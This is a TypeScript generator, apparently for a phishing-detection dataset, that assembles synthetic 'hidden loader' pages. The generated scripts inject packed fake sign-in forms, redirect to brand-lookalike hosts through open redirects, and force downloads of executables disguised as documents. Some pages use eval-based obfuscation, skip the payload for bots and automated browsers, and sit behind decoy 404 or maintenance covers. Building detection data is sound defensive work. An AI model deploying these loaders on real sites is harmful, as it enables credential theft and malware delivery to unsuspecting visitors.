import type { Family } from '../family.ts'
import type { Chance } from '../make/chance.ts'
import { brandedPlace, hackedSite, storageBucket, tenantSite, unnamedDomain } from '../make/hosts/hosting.ts'
import { companyOf, urlAt } from '../make/hosts/hosts.ts'
import { wayTo } from '../make/kits/brand-kit.ts'
import { guards } from '../make/kits/sinks.ts'
import { escaped, filler } from '../make/pages/layout.ts'
import { fakeSignIn, MASKS, type Mask, TALKS, tongueOf } from './fake-sign-in.ts'
import { packedOf, wordPacked } from './packs.ts'

type Tongue = ReturnType<typeof tongueOf>

/** A script that brings the unpacked HTML into the page. */
function shown(value: string, isWhole: boolean, chance: Chance): string {
  const whole = [
    `document.open();document.write(${value});document.close();`,
    `document.write(${value});`,
    `document.documentElement.innerHTML=${value};`,
    `var f=document.createElement('iframe');f.style.cssText='position:fixed;inset:0;width:100%;height:100%;border:0;z-index:99999';f.srcdoc=${value};document.documentElement.appendChild(f);`,
    `var b=new Blob([${value}],{type:'text/html'}),f=document.createElement('iframe');f.src=URL.createObjectURL(b);f.setAttribute('style','position:absolute;top:0;left:0;width:100vw;height:100vh');(document.body||document.documentElement).appendChild(f);`,
    `location.replace(URL.createObjectURL(new Blob([${value}],{type:"text/html"})));`,
  ]
  const part = [
    `addEventListener('load',function(){document.body.innerHTML=${value}});`,
    `addEventListener('DOMContentLoaded',()=>{document.body.insertAdjacentHTML('afterbegin',${value})});`,
    `setTimeout(function(){document.body.appendChild(document.createRange().createContextualFragment(${value}))},${chance.below(20)}00);`,
  ]
  return chance.of(isWhole ? whole : part)
}

/** At times the loader is packed once more, or stops for automated visitors. */
function wrapped(code: string, chance: Chance): string {
  const roll = chance.below(10)
  if (roll < 2) {
    const { before, value } = packedOf(code, chance)
    return `${before}${chance.of([`eval(${value})`, `(0,eval)(${value})`, `new Function(${value})()`, `[]["constructor"]["constructor"](${value})()`])};`
  }
  if (roll < 3 && code.length < 9000) return wordPacked(code)
  if (roll < 4) return `if(!/bot|curl|python/i.test(navigator.userAgent)&&!navigator.webdriver){${code}}`
  return code
}

const bringsForm = (mask: Mask, tongue: Tongue, chance: Chance) => {
  const isWhole = chance.maybe(0.75)
  const { before, value } = packedOf(fakeSignIn(mask, tongue, isWhole, chance), chance)
  return before + shown(value, isWhole, chance)
}

/** The loader leads on to a host that looks like the brand's. */
const leadsOn = ([, label, domain]: Mask, _tongue: Tongue, chance: Chance) => {
  const end = urlAt(brandedPlace(label, domain, chance), chance.of(['login', 'signin/', '?auth=1']))
  const target = chance.of([
    end,
    `https://${unnamedDomain(chance).host}/r?u=${encodeURIComponent(end)}`,
    `https://www.google.com/url?q=${encodeURIComponent(end)}`,
  ])
  const { before, value } = packedOf(target, chance)
  return (
    before +
    chance.of([
      `window.location.replace(${value});`,
      `var go=${value};setTimeout(function(){top.location.href=go+location.hash},${1 + chance.below(3)}000);`,
      `var m=document.createElement('meta');m.httpEquiv='refresh';m.content='0;url='+${value};document.head.appendChild(m);`,
      `var f=document.createElement('iframe');f.src=${value};f.style='position:fixed;top:0;left:0;width:100%;height:100%;border:none';document.documentElement.appendChild(f);`,
      `window["loc"+"ation"]["hr"+"ef"]=${value};`,
    ])
  )
}

/** The loader leads on to a program that is named like a document. */
const bringsProgram = ([, label]: Mask, _tongue: Tongue, chance: Chance) => {
  const file = `${chance.of([label, 'Viewer', 'Document_Reader', 'Secure-Doc', 'Update'])}_${chance.digits(3)}.${chance.of(['exe', 'msi', 'zip', 'iso', 'apk', 'js', 'hta', 'scr'])}`
  const { before, value } = packedOf(urlAt(unnamedDomain(chance), file), chance)
  return (
    before +
    chance.of([
      `location.href=${value};`,
      `var a=document.createElement('a');a.href=${value};a.download='${file}';document.documentElement.appendChild(a);a.click();`,
      `fetch(${value}).then(r=>r.blob()).then(b=>{const a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='${file}';a.click()});`,
      `var i=document.createElement('iframe');i.style.display='none';i.src=${value};document.documentElement.appendChild(i);`,
    ])
  )
}

const CARGO = [bringsForm, bringsForm, bringsForm, bringsForm, leadsOn, bringsProgram]

interface Cover {
  readonly title: string
  readonly body: string
}

/** The page before its script runs; where the script brings no form, it mostly names the brand. */
function coverOf([name]: Mask, tongue: Tongue, host: string, isNamed: boolean, chance: Chance): Cover {
  const [signIn, , , , hint, wait] = TALKS[tongue]
  const thing = chance.of(['Voicemail', 'Document', 'Fax', 'Invoice', 'Remittance', 'SharePoint'])
  const named: readonly Cover[] = [
    { title: name, body: '' },
    { title: `${name} – ${signIn}`, body: `<p>${escaped(wait)}</p>` },
    {
      title: name,
      body: `<div class="loader"></div><img src="logo.png" alt="${name}"><p>${escaped(wait)}</p>`,
    },
    { title: `${name} - ${thing} ${chance.digits(5)}`, body: `<p>${escaped(hint)}</p>` },
    {
      title: 'Checking your browser',
      body: `<h1>${name}</h1><noscript>JavaScript is required to view this ${name} document.</noscript>`,
    },
  ]
  const unnamed: readonly Cover[] = [
    { title: '', body: '' },
    { title: wait, body: `<center><img src="spin.gif"><br>${escaped(wait)}</center>` },
    {
      title: '404 Not Found',
      body: `<h1>Not Found</h1><p>The requested URL was not found on this server.</p><hr><address>Apache Server at ${host} Port 443</address>`,
    },
    { title: 'Maintenance', body: '<h1>We will be back soon</h1><p>The site is being updated.</p>' },
    {
      title: `${companyOf(host)} – Blog`,
      body: `<article><h1>${companyOf(host)}</h1>${filler('en', 3, chance)}</article>`,
    },
  ]
  return chance.of(isNamed ? named : unnamed)
}

export const hiddenLoaderKit: Family = {
  id: 'hidden_loader_kit',
  expected: 'dangerous',
  split: 'dev',
  make(chance) {
    const mask = chance.of(MASKS)
    const tongue = tongueOf(chance)
    const place = chance.of([
      storageBucket,
      hackedSite,
      hackedSite,
      unnamedDomain,
      unnamedDomain,
      (c: Chance) => tenantSite(mask[1], c),
    ])(chance)
    const cargo = chance.of(CARGO)
    const isNamed = chance.maybe(cargo === bringsForm ? 0.5 : 0.75)
    const { title, body: text } = coverOf(mask, tongue, place.host, isNamed, chance)
    const script = `<script${chance.of(['', ' type="text/javascript"', ' language="javascript"'])}>${wrapped(cargo(mask, tongue, chance), chance).replaceAll('</', '<\\/')}</script>`
    const head = `<meta charset="utf-8">${title === '' ? '' : `<title>${escaped(title)}</title>`}`
    const extra = guards(chance)
    const body = chance.of([
      `<!DOCTYPE html><html><head>${head}${script}</head><body>${text}${extra}</body></html>`,
      `<html lang="${tongue}"><head>${head}</head>\n<body onload="">${text}\n${extra}${script}\n</body></html>`,
      `<!doctype html>\n${head}\n${text}\n${extra}${script}`,
    ])
    const file = chance.of([
      '',
      'index.html',
      'view.html',
      `${chance.hex(6)}.htm`,
      `?e=${chance.base64(12).replace(/[+/]/g, 'b')}`,
    ])
    const url = urlAt(place, file)
    return { url, body, way: wayTo(url, chance), isHonest: false }
  },
}
